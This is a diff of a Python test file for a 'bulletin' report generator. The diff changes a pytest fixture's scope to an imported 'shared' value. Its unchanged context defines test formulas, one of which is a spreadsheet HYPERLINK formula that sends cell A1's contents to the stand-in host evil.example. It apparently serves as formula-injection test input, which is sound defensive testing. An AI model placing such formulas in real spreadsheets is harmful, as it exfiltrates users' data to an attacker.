@@ -14,6 +14,7 @@ from openpyxl import load_workbook
 from bulletin import open_month
 from bulletin.report.annexes import spreadsheet_text, write_annex_files
 from support.handmade import CONFIG, done, make
+from support.scopes import shared
 
 FORMULAS = {
     "市甲局": '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
@@ -37,7 +38,7 @@ def units() -> str:
     return out.getvalue()
 
 
-@pytest.fixture(scope="module")
+@pytest.fixture(scope=shared)
 def out(tmp_path_factory):
     config = CONFIG.replace("region: 示例市", f"region: '{REGION}'")
     folder = make(tmp_path_factory.mktemp("formulas"), [
